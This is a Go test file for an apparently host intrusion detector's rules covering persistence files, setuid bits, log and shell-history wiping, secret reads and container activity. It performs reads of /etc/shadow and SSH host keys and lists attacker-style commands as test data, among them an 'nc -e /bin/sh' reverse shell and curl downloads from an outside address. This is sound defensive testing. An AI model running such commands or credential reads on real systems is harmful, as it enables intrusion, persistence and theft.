package daemon

// Live tests of the built-in rules of 40-files and 60-containers: each runs
// the real behaviour in the test's cgroup under the shared agent and waits
// for the alert, and runs the look-alikes the rule must leave alone.
//
// Negative cases run first and are checked once a later alert of the same
// test has arrived: the agent evaluates events in order and queues their
// alerts in order, so by then every earlier event has been judged.
//
// System files are only ever opened: for reading, or for appending with
// nothing written (a real write-open that changes nothing). Everything that
// is created, truncated or removed is the test's own, in a temp dir (below
// /root when the directory must be watched), or a uniquely named entry in
// /usr/local/lib or /var/log that the test removes.

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/rules"
	"github.com/vigilsec/vigil/internal/rules/defaults"
)

// liveFiles runs triggers for one test.
type liveFiles struct {
	t *testing.T
	h *harness
}

func newLiveFiles(t *testing.T) *liveFiles {
	t.Helper()
	return &liveFiles{t: t, h: join(t)}
}

// run runs a program in the test's cgroup and fails the test if it fails.
func (l *liveFiles) run(name string, args ...string) int {
	l.t.Helper()
	return l.runIn("", name, args...)
}

func (l *liveFiles) runIn(dir, name string, args ...string) int {
	l.t.Helper()
	cmd := l.h.cg.Command(name, args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		l.t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return cmd.Process.Pid
}

// python runs Python code in the test's cgroup: a program that is none of
// the ones the rules allow.
func (l *liveFiles) python(code string) int {
	l.t.Helper()
	if _, err := os.Stat(pythonPath); err != nil {
		l.t.Skipf("no %s", pythonPath)
	}
	return l.run(pythonPath, "-c", code)
}

const pythonPath = "/usr/bin/python3"

// alert waits for rule's alert on pid and checks its severity.
func (l *liveFiles) alert(rule string, pid int, sev event.Severity) event.Event {
	l.t.Helper()
	al := l.h.events.waitFor(l.t, rule+" alert", isAlert(rule, pid))
	if al.Alert.Severity != sev || al.Alert.Message == "" {
		l.t.Errorf("%s: severity %v, message %q; want %v and a message", rule, al.Alert.Severity, al.Alert.Message, sev)
	}
	l.t.Logf("%s (%v): %s", rule, al.Alert.Severity, al.Alert.Message)
	return al
}

// quiet fails the test if rule alerted on any of pids (0: on anything in
// the cgroup).
func (l *liveFiles) quiet(rule string, pids ...int) {
	l.t.Helper()
	for _, pid := range pids {
		if n := l.h.events.count(isAlert(rule, pid)); n != 0 {
			l.t.Errorf("%d %s alerts on pid %d, want none", n, rule, pid)
		}
	}
}

// rootTempDir is a temp dir below /root, which the file sensor watches for
// writes (t.TempDir is in /tmp, which it does not).
func rootTempDir(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("/root", "vigil-test-")
	if err != nil {
		t.Skipf("no temp dir below /root: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

// uniqueName is a name no other run of the test uses.
func uniqueName(prefix string) string {
	return fmt.Sprintf("%s%d-%d", prefix, os.Getpid(), time.Now().UnixNano())
}

// firstExisting returns the first path of the patterns that is a regular
// file, or skips the test.
func firstExisting(t *testing.T, patterns ...string) string {
	t.Helper()
	for _, p := range patterns {
		m, _ := filepath.Glob(p)
		for _, f := range m {
			if st, err := os.Stat(f); err == nil && st.Mode().IsRegular() {
				return f
			}
		}
	}
	t.Skipf("none of %v on this host", patterns)
	return ""
}

// appendOpen is Python that opens path for appending and writes nothing: a
// real write-open that leaves the file as it was. It never creates path.
func appendOpen(path string) string {
	return fmt.Sprintf("import os; os.close(os.open(%q, os.O_WRONLY | os.O_APPEND))", path)
}

// ---- setuid and setgid

func TestRuleSetuidBitSet(t *testing.T) {
	l := newLiveFiles(t)
	dir := t.TempDir() // /tmp: no watch list covers it, the sensor reports setid chmods anyway
	shell := filepath.Join(dir, "sh")
	copyProgram(t, "/usr/bin/true", shell)

	plain := l.run("chmod", "755", shell)
	sticky := l.run("chmod", "1755", shell)
	setgid := l.run("chmod", "2755", shell)
	setuid := l.run("chmod", "4755", shell)

	al := l.alert("setuid-bit-set", setuid, event.SeverityWarning)
	if !strings.Contains(al.Alert.Message, shell) || al.Alert.Trigger == nil || al.Alert.Trigger.File.Mode != 0o4755 {
		t.Errorf("alert %q, trigger %+v: want the path and mode 04755", al.Alert.Message, al.Alert.Trigger)
	}
	l.alert("setgid-bit-set", setgid, event.SeverityNotice)
	l.quiet("setuid-bit-set", plain, sticky, setgid)
	l.quiet("setgid-bit-set", plain, sticky, setuid)

	// A file created with the bit, in a watched directory.
	made := filepath.Join(rootTempDir(t), "made")
	created := l.python(fmt.Sprintf("import os; os.close(os.open(%q, os.O_CREAT | os.O_WRONLY, 0o4755))", made))
	if al := l.alert("setuid-bit-set", created, event.SeverityWarning); al.Alert.Trigger.File.Op != event.FileCreate {
		t.Errorf("trigger %+v, want a create", al.Alert.Trigger.File)
	}
}

// ---- hidden files

func TestRuleHiddenFileInSystemDir(t *testing.T) {
	l := newLiveFiles(t)
	tmp := t.TempDir()
	inTmp := l.run("mkdir", filepath.Join(tmp, ".hidden"))
	visible := filepath.Join(tmp, "visible")
	l.run("mkdir", visible)
	hiddenTmp := l.run("mv", visible, filepath.Join(tmp, ".renamed"))

	// A hidden directory in /usr/local/lib, the test's own, removed after.
	hidden := filepath.Join("/usr/local/lib", uniqueName(".vigil-test-"))
	t.Cleanup(func() { os.Remove(hidden) })
	pid := l.run("mkdir", hidden)
	al := l.alert("hidden-file-in-system-dir", pid, event.SeverityWarning)
	if !strings.Contains(al.Alert.Message, hidden) {
		t.Errorf("message %q lacks %s", al.Alert.Message, hidden)
	}
	l.quiet("hidden-file-in-system-dir", inTmp, hiddenTmp)
	l.quiet("hidden-file-in-web-root", inTmp, hiddenTmp, pid)
}

// ---- credential and persistence files

func TestRuleAccountFilesModified(t *testing.T) {
	l := newLiveFiles(t)
	read := l.run("cat", "/etc/passwd", "/etc/group")
	pid := l.python(appendOpen("/etc/passwd"))
	l.alert("account-files-modified", pid, event.SeverityWarning)
	l.quiet("account-files-modified", read)
}

func TestRuleSudoersModified(t *testing.T) {
	l := newLiveFiles(t)
	sudoers := firstExisting(t, "/etc/sudoers", "/etc/sudoers.d/*")
	pid := l.python(appendOpen(sudoers))
	l.alert("sudoers-modified", pid, event.SeverityWarning)
}

func TestRuleSSHAuthorizedKeysModified(t *testing.T) {
	l := newLiveFiles(t)
	ssh := filepath.Join(rootTempDir(t), ".ssh")
	if err := os.Mkdir(ssh, 0o700); err != nil {
		t.Fatal(err)
	}
	keys := filepath.Join(ssh, "authorized_keys")
	if err := os.WriteFile(keys, []byte("ssh-ed25519 AAAA old\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	mode := l.run("chmod", "600", keys)
	read := l.run("cat", keys)
	pid := l.python(fmt.Sprintf("open(%q, 'a').write('ssh-ed25519 AAAA intruder\\n')", keys))
	l.alert("ssh-authorized-keys-modified", pid, event.SeverityWarning)
	l.quiet("ssh-authorized-keys-modified", mode, read)
}

func TestRuleCronJobModified(t *testing.T) {
	l := newLiveFiles(t)
	job := firstExisting(t, "/etc/crontab", "/etc/cron.d/*", "/etc/cron.daily/*")
	read := l.run("cat", job)
	pid := l.python(appendOpen(job))
	l.alert("cron-job-modified", pid, event.SeverityWarning)
	l.quiet("cron-job-modified", read)
}

func TestRuleLdSoPreloadModified(t *testing.T) {
	l := newLiveFiles(t)
	// Appending nothing when it exists; when it does not, an open for
	// writing without O_CREAT, which fails with ENOENT: an attempt, which
	// the rule reports too. Nothing is created either way.
	pid := l.python(`import os
try:
    os.close(os.open("/etc/ld.so.preload", os.O_WRONLY | os.O_APPEND))
except FileNotFoundError:
    pass`)
	al := l.alert("ld-so-preload-modified", pid, event.SeverityCritical)
	if al.Alert.Trigger == nil || al.Alert.Trigger.File.Path != "/etc/ld.so.preload" {
		t.Errorf("trigger %+v", al.Alert.Trigger)
	}
}

func TestRuleSystemdUnitModified(t *testing.T) {
	l := newLiveFiles(t)
	unit := firstExisting(t, "/usr/lib/systemd/system/*.service", "/etc/systemd/system/*.service")
	read := l.run("cat", unit)
	pid := l.python(appendOpen(unit))
	l.alert("systemd-unit-modified", pid, event.SeverityWarning)

	// A user's own unit, written below a watched home (root's).
	dir := filepath.Join(rootTempDir(t), ".config", "systemd", "user")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	user := l.python(fmt.Sprintf("open(%q, 'w').write('[Service]\\nExecStart=/bin/true\\n')", filepath.Join(dir, "vigil-test.service")))
	l.alert("systemd-unit-modified", user, event.SeverityWarning)
	l.quiet("systemd-unit-modified", read)
}

func TestRulePAMModified(t *testing.T) {
	l := newLiveFiles(t)
	conf := firstExisting(t, "/etc/pam.d/other", "/etc/pam.d/*")
	read := l.run("cat", conf)
	pid := l.python(appendOpen(conf))
	l.alert("pam-config-modified", pid, event.SeverityWarning)
	l.quiet("pam-config-modified", read)

	module := firstExisting(t, "/usr/lib/x86_64-linux-gnu/security/pam_permit.so", "/usr/lib64/security/pam_permit.so",
		"/usr/lib/security/pam_permit.so")
	pid = l.python(appendOpen(module))
	l.alert("pam-module-modified", pid, event.SeverityError)
}

// ---- logs and shell histories

func TestRuleLogFileCleared(t *testing.T) {
	l := newLiveFiles(t)
	log := filepath.Join("/var/log", uniqueName("vigil-test-")+".log")
	t.Cleanup(func() { os.Remove(log) })
	created := l.python(fmt.Sprintf("open(%q, 'w').write('line 1\\n')", log)) // a new file: nothing erased
	var appends []int
	for range 3 {
		appends = append(appends, l.python(fmt.Sprintf("open(%q, 'a').write('more\\n')", log)))
	}
	// What a login does to wtmp: append (here, nothing).
	wtmp := 0
	if _, err := os.Stat("/var/log/wtmp"); err == nil {
		wtmp = l.python(appendOpen("/var/log/wtmp"))
	}

	truncated := l.run("truncate", "-s", "0", log)
	l.alert("log-file-cleared", truncated, event.SeverityNotice)
	rewritten := l.python(fmt.Sprintf("open(%q, 'w').write('fresh\\n')", log)) // O_TRUNC of an existing log
	l.alert("log-file-cleared", rewritten, event.SeverityNotice)
	removed := l.run("rm", log)
	l.alert("log-file-cleared", removed, event.SeverityNotice)

	l.quiet("log-file-cleared", append([]int{created}, appends...)...)
	l.quiet("security-log-tampered", truncated, rewritten, removed)
	if wtmp != 0 {
		l.quiet("security-log-tampered", wtmp)
		l.quiet("log-file-cleared", wtmp)
	}
}

func TestRuleShellHistoryTampered(t *testing.T) {
	l := newLiveFiles(t)
	home := rootTempDir(t)
	hist := filepath.Join(home, ".bash_history")
	var lines strings.Builder
	for i := range 20 {
		fmt.Fprintf(&lines, "echo %d\n", i)
	}
	if err := os.WriteFile(hist, []byte(lines.String()), 0o600); err != nil {
		t.Fatal(err)
	}

	// bash keeping its history: it appends at exit and trims the file to
	// HISTFILESIZE by writing a copy and renaming it over the history.
	bash := l.h.cg.Command("/bin/bash", "-i")
	bash.Env = append(os.Environ(), "HOME="+home, "HISTFILE="+hist, "HISTFILESIZE=5", "PS1=")
	bash.Stdin = strings.NewReader("echo a\necho b\n")
	if out, err := bash.CombinedOutput(); err != nil {
		t.Fatalf("bash -i: %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(hist); strings.Count(string(b), "\n") > 5 {
		t.Fatalf("bash did not trim its history:\n%s", b)
	}

	removed := l.run("rm", hist)
	l.alert("shell-history-tampered", removed, event.SeverityWarning)

	linked := l.run("ln", "-s", "/dev/null", filepath.Join(home, ".zsh_history"))
	l.alert("shell-history-tampered", linked, event.SeverityWarning)

	os.WriteFile(hist, []byte("echo secret\n"), 0o600)
	emptied := l.run("/bin/sh", "-c", ": > "+hist)
	l.alert("shell-history-tampered", emptied, event.SeverityWarning)

	os.WriteFile(hist, []byte("echo secret\n"), 0o600)
	replaced := l.run("ln", "-sf", "/dev/null", hist) // a temporary link renamed over the history
	l.alert("shell-history-tampered", replaced, event.SeverityWarning)

	l.quiet("shell-history-tampered", bash.Process.Pid)
}

// ---- secrets that are read

func TestRuleCredentialStoreRead(t *testing.T) {
	l := newLiveFiles(t)
	if _, err := os.Stat("/etc/shadow"); err != nil {
		t.Skip("no /etc/shadow")
	}
	su := l.run("su", "-s", "/bin/sh", "nobody", "-c", "true") // reads /etc/shadow through PAM
	pid := l.python("open('/etc/shadow').read()")
	l.alert("credential-store-read", pid, event.SeverityWarning)
	if n := l.h.events.count(func(e *event.Event) bool {
		return e.Kind == event.KindFile && e.File.Path == "/etc/shadow" && e.Process.Name == "su"
	}); n == 0 {
		t.Log("su did not read /etc/shadow here: its negative case checked nothing")
	}
	l.quiet("credential-store-read", su)
}

func TestRuleSSHPrivateKeyRead(t *testing.T) {
	l := newLiveFiles(t)
	key := firstExisting(t, "/etc/ssh/ssh_host_*_key")
	pid := l.python(fmt.Sprintf("open(%q).read()", key))
	l.alert("ssh-private-key-read", pid, event.SeverityWarning)
}

// ---- containers

// containerRules are the rules of 60-containers that key on container
// attribution.
var containerRules = []string{"container-namespace-change", "container-mount", "container-runtime-socket-access",
	"package-manager-in-container", "network-tool-in-container", "download-tool-in-container"}

// TestContainerRulesStaySilentOnTheHost: namespaces, mounts, engine sockets
// named in arguments, package managers and download tools on the host raise
// none of the container rules, nor does reading release_agent.
func TestContainerRulesStaySilentOnTheHost(t *testing.T) {
	l := newLiveFiles(t)
	// A mount in a mount namespace of its own (private propagation).
	l.run("unshare", "--mount", "--propagation", "private", "/bin/sh", "-c", "mount -t tmpfs vigil-test /mnt && umount /mnt")
	l.h.events.waitFor(t, "mount", func(e *event.Event) bool { return e.Kind == event.KindKernel && e.Kernel.Op == event.KernelMount })
	l.run("/bin/sh", "-c", "echo /var/run/docker.sock >/dev/null")
	l.run("apt-get", "--version")
	for _, tool := range []string{"curl", "wget"} {
		if p, err := exec.LookPath(tool); err == nil {
			args := []string{"-s", "-m", "2", "http://127.0.0.1:9/"}
			if tool == "wget" {
				args = []string{"-q", "-T", "2", "-t", "1", "http://127.0.0.1:9/"}
			}
			l.h.cg.Run(t, p, args...) // fails: nothing listens
		}
	}
	if ra, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent"); len(ra) > 0 {
		l.run("cat", ra[0])
	}

	marker := l.python("open('/etc/shadow').read()")
	l.alert("credential-store-read", marker, event.SeverityWarning)
	for _, rule := range append(containerRules, "cgroup-release-agent-write") {
		if n := l.h.events.count(isAlert(rule, 0)); n != 0 {
			t.Errorf("%d %s alerts from host processes", n, rule)
		}
	}
}

// TestContainerRulesMatchOnceAttributed checks the container rules'
// conditions and exceptions on attributed events, as container attribution
// fills them.
func TestContainerRulesMatchOnceAttributed(t *testing.T) {
	set, err := rules.Load(defaults.Source())
	if err != nil {
		t.Fatal(err)
	}
	ctr := &event.Container{ID: "4f2c9a0b1e3d", Runtime: "docker", Name: "web"}
	exec := func(name, exe string, args ...string) *event.Event {
		return &event.Event{Kind: event.KindExec, Exec: &event.Exec{}, Origin: event.OriginContainer, Container: ctr,
			Process: event.Process{PID: 10, Name: name, Executable: exe, Args: append([]string{name}, args...)}}
	}
	kernel := func(op event.KernelOp, name, exe string, k event.Kernel) *event.Event {
		k.Op = op
		return &event.Event{Kind: event.KindKernel, Kernel: &k, Origin: event.OriginContainer, Container: ctr,
			Process: event.Process{PID: 10, Name: name, Executable: exe}}
	}
	onHost := func(e *event.Event) *event.Event { e.Origin, e.Container = event.OriginHost, nil; return e }
	tests := []struct {
		name string
		e    *event.Event
		want string // the rule that must match; "" for none of them
	}{
		{"nsenter into pid 1", kernel(event.KernelSetns, "nsenter", "/usr/bin/nsenter", event.Kernel{ArgName: "CLONE_NEWNS", TargetPID: 1}), "container-namespace-change"},
		{"unshare -U", kernel(event.KernelUnshare, "unshare", "/usr/bin/unshare", event.Kernel{FlagNames: []string{"CLONE_NEWUSER"}}), "container-namespace-change"},
		{"runc init joining", kernel(event.KernelSetns, "runc:[2:INIT]", "/memfd:runc_cloned:/proc/self/exe (deleted)", event.Kernel{}), ""},
		{"chrome sandbox", kernel(event.KernelCloneNS, "chrome", "/opt/google/chrome/chrome", event.Kernel{FlagNames: []string{"CLONE_NEWUSER", "CLONE_NEWPID"}}), ""},
		{"nsenter on the host", onHost(kernel(event.KernelSetns, "nsenter", "/usr/bin/nsenter", event.Kernel{})), ""},
		{"host disk mounted", kernel(event.KernelMount, "mount", "/usr/bin/mount", event.Kernel{Source: "/dev/sda1", Target: "/mnt", FSType: "ext4"}), "container-mount"},
		{"runc mounting the rootfs", kernel(event.KernelMount, "runc:[2:INIT]", "/usr/bin/runc", event.Kernel{FSType: "proc"}), ""},
		{"docker ps", exec("docker", "/usr/bin/docker", "ps"), "container-runtime-socket-access"},
		{"curl to the socket", exec("curl", "/usr/bin/curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"), "container-runtime-socket-access"},
		{"apt-get install", exec("apt-get", "/usr/bin/apt-get", "install", "-y", "nmap"), "package-manager-in-container"},
		{"apk add", exec("apk", "/sbin/apk", "add", "socat"), "package-manager-in-container"},
		{"pip install", exec("pip", "/usr/bin/python3.11", "/usr/bin/pip", "install", "requests"), "package-manager-in-container"},
		{"dpkg -i", exec("dpkg", "/usr/bin/dpkg", "-i", "x.deb"), "package-manager-in-container"},
		{"dpkg query", exec("dpkg", "/usr/bin/dpkg", "--print-architecture"), ""},
		{"rpm -ivh", exec("rpm", "/usr/bin/rpm", "-ivh", "x.rpm"), "package-manager-in-container"},
		{"rpm -q", exec("rpm", "/usr/bin/rpm", "-q", "bash"), ""},
		{"pip list", exec("pip", "/usr/bin/python3.11", "/usr/bin/pip", "list"), ""},
		{"nc -e", exec("nc", "/usr/bin/nc.openbsd", "-e", "/bin/sh", "10.0.0.1", "4444"), "network-tool-in-container"},
		{"busybox nc", exec("nc", "/bin/busybox", "-lp", "4444"), "network-tool-in-container"},
		{"nmap", exec("nmap", "/usr/bin/nmap", "-sS", "10.0.0.0/24"), "network-tool-in-container"},
		{"curl download", exec("curl", "/usr/bin/curl", "-sO", "http://203.0.113.9/x"), "download-tool-in-container"},
		{"wget download", exec("wget", "/usr/bin/wget", "http://203.0.113.9/x"), "download-tool-in-container"},
		{"health check", exec("curl", "/usr/bin/curl", "-f", "http://localhost:8080/healthz"), ""},
		{"health check by address", exec("wget", "/bin/busybox", "-qO-", "127.0.0.1:3000/health"), ""},
		{"ls", exec("ls", "/usr/bin/ls", "-l"), ""},
		{"curl on the host", onHost(exec("curl", "/usr/bin/curl", "-sO", "http://203.0.113.9/x")), ""},
	}
	for _, tt := range tests {
		var got []string
		set.Eval(tt.e, func(al *event.Event) {
			for _, r := range containerRules {
				if al.Alert.RuleID == r {
					got = append(got, r)
				}
			}
		})
		want := []string{}
		if tt.want != "" {
			want = []string{tt.want}
		}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%s: container rules %v, want %v", tt.name, got, want)
		}
	}
}
